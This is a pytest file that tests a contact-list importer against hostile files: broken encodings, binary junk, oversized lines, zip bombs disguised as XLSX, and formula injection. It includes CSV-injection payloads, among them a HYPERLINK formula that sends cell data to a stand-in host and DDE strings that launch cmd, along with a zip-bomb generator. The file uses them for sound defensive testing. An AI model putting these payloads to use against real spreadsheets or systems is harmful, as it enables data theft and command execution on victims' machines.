"""Hostile contact files: wrong encodings, binary junk, a 10 MB line, a zip bomb disguised as
XLSX, formulas in names. Every file is generated here (tmp_path or memory); none is committed.

Each bad file gets a clear error or a reported row, and the readable rows still import.
"""

from __future__ import annotations

import codecs
import csv
import io
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from campaigns import contact_files
from campaigns.importing import ImportFailed, import_contacts
from campaigns.models import Contact
from gateway.auth import create_token
from tests.factories import create_user

NAME = "Nguyễn Thị Hồng"


def _import(session: Session, data: bytes, filename: str = "a.csv", **kw: Any) -> Any:
    return import_contacts(session, io.BytesIO(data), "hostile", filename=filename, **kw)


def _names(session: Session) -> dict[str, str | None]:
    return {p: n for p, n in session.execute(select(Contact.phone, Contact.name))}


# --- encodings -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encode", "expected"),
    [
        (lambda t: codecs.BOM_UTF8 + t.encode(), "utf-8-sig"),
        (lambda t: t.encode("utf-16"), "utf-16"),
        (lambda t: t.encode(), "utf-8"),
    ],
    ids=["utf-8-bom", "utf-16-bom", "utf-8"],
)
def test_unicode_encodings_keep_vietnamese(session: Session, encode: Any, expected: str) -> None:
    """UTF-8 (with or without BOM) and UTF-16 with BOM import the name unchanged."""
    result = _import(session, encode(f"Số điện thoại,Họ tên\r\n0912345678,{NAME}\r\n"))
    assert (result.encoding, result.added) == (expected, 1)
    assert _names(session) == {"+84912345678": NAME}


def test_latin1_file_is_read_as_a_legacy_code_page(session: Session) -> None:
    """A Latin-1 file (no Vietnamese) is not UTF-8: read with a legacy code page, names intact."""
    result = _import(session, "phone,name\r\n0912345678,José Müller\r\n".encode("latin-1"))
    assert result.encoding in ("cp1258", "cp1252") and result.added == 1
    assert _names(session) == {"+84912345678": "José Müller"}


def test_legacy_bytes_after_the_sniffed_start_are_reported_not_garbled(session: Session) -> None:
    """A UTF-8 file whose cp1258 bytes come after the first 64 KB: that row is rejected with its
    line number (bad_encoding); the rows before and after import, none with a U+FFFD."""
    filler = "".join(f"09{i:08d},{NAME}\r\n" for i in range(12000, 14000))
    head = f"phone,name\r\n{filler}".encode()
    assert len(head) > contact_files.SNIFF_BYTES
    bad_line = head.count(b"\n") + 1
    data = head + b"0987654321,Tr\xe2\xec\xf0n\r\n0987654322,Lan\r\n"
    result = _import(session, data)
    assert result.encoding == "utf-8"
    assert [(r.line, r.reason) for r in result.rejected] == [(bad_line, "bad_encoding")]
    names = _names(session)
    assert names["+84987654322"] == "Lan" and "+84987654321" not in names
    assert not any("\ufffd" in (n or "") for n in names.values())


# --- junk ----------------------------------------------------------------------------------


@pytest.mark.parametrize("seed", [0, 1, 2])
def test_binary_junk_is_refused_clearly(session: Session, seed: int) -> None:
    """Random bytes are refused with a message naming what is missing, not a crash."""
    junk = random.Random(seed).randbytes(200_000)
    with pytest.raises(ImportFailed, match=r"số điện thoại|XLSX|dòng"):
        _import(session, junk)


@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.binary(max_size=2000), st.sampled_from(["a.csv", "a.xlsx", "a.txt"]))
def test_any_bytes_import_or_fail_cleanly(session: Session, data: bytes, filename: str) -> None:
    """Whatever the bytes, the importer either returns counts or raises ImportFailed."""
    try:
        result = _import(session, b"phone,name\n0912345678,Lan\n" + data, filename=filename)
    except ImportFailed as exc:
        assert str(exc)
        session.rollback()
    else:
        assert result.rows >= 1 and result.rows == (
            result.added + result.updated + result.duplicates + result.rejected_count
        )


def test_a_ten_megabyte_line_is_reported_and_the_rest_imports(session: Session) -> None:
    """A line past the CSV field limit is one rejected row (with its line); the rest imports."""
    data = b"phone,name\n0912345678,Lan\n0912345679," + b"x" * (10 * 1024 * 1024) + b"\n"
    data += b"0912345680,Mai\n"
    result = _import(session, data)
    assert [(r.line, r.reason) for r in result.rejected] == [(3, "unreadable")]
    assert set(_names(session)) == {"+84912345678", "+84912345680"}


# --- zip bombs -----------------------------------------------------------------------------


def _bomb(path: Path, size: int) -> bytes:
    """An XLSX-looking zip whose sheet inflates to ``size`` bytes of one repeated character."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                sheet.write(chunk)
    return path.read_bytes()


def test_zip_bomb_disguised_as_xlsx_is_refused_before_inflating(
    session: Session, tmp_path: Path
) -> None:
    """A sheet that compresses a thousand times is refused from the zip directory alone."""
    data = _bomb(tmp_path / "bomb.xlsx", 64 * 1024 * 1024)
    assert len(data) < 1024 * 1024
    with pytest.raises(ImportFailed, match="bom nén"):
        _import(session, data, filename="danh-sach.xlsx")


def test_xlsx_too_large_once_inflated_is_refused(
    session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A workbook declaring more than the total limit is refused with the sizes."""
    monkeypatch.setattr(contact_files, "XLSX_MAX_UNCOMPRESSED", 2 * 1024 * 1024)
    monkeypatch.setattr(contact_files, "XLSX_MAX_RATIO", 10**6)
    data = _bomb(tmp_path / "big.xlsx", 3 * 1024 * 1024)
    with pytest.raises(ImportFailed, match="quá giới hạn"):
        _import(session, data, filename="big.xlsx")


def test_a_real_xlsx_passes_the_bomb_check(session: Session) -> None:
    """An ordinary workbook (several thousand rows) is under both limits."""
    wb = Workbook()
    ws = wb.active
    ws.append(["Số điện thoại", "Họ tên"])
    for i in range(5000):
        ws.append([f"09{i + 10_000_000:08d}", NAME])
    out = io.BytesIO()
    wb.save(out)
    assert _import(session, out.getvalue(), filename="ok.xlsx").added == 5000


# --- formulas ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_formula_in_a_name_is_stored_as_text(session: Session, formula: str) -> None:
    """A name starting like a formula is stored byte-exact, as text (CSV and XLSX alike)."""
    out = io.StringIO()
    csv.writer(out).writerows([["phone", "name"], ["0912345678", formula]])
    _import(session, out.getvalue().encode())
    wb = Workbook()
    wb.active.append(["phone", "name"])
    wb.active.append(["0912345679", formula])
    wb.active["B2"].data_type = "s"
    buffer = io.BytesIO()
    wb.save(buffer)
    _import(session, buffer.getvalue(), filename="f.xlsx")
    assert _names(session) == {"+84912345678": formula, "+84912345679": formula}


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_formula_in_a_rejected_cell_is_neutralised_in_every_rejects_csv(
    client: Any, session: Session, formula: str
) -> None:
    """The rejects written by the importer, the API download and the admin download all start
    the formula with an apostrophe, so a spreadsheet shows it as text."""
    rejects = io.StringIO()
    out = io.StringIO()
    csv.writer(out).writerows([["phone"], ["0912345678"], [formula]])
    _import(session, out.getvalue().encode(), rejects=rejects)
    assert list(csv.reader(io.StringIO(rejects.getvalue())))[1][1] == "'" + formula[:64]

    user = create_user("editor")
    headers = {"Authorization": f"Bearer {create_token(user)}"}
    resp = client.post(
        "/api/v1/contacts/import",
        data={"file": (io.BytesIO(out.getvalue().encode()), "f.csv"), "list": "F"},
        headers=headers,
    )
    assert resp.status_code == 200, resp.json
    with client.get(resp.json["rejected_download"], headers=headers) as download:
        rows = list(csv.reader(io.StringIO(download.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][1] == "'" + formula[:64]
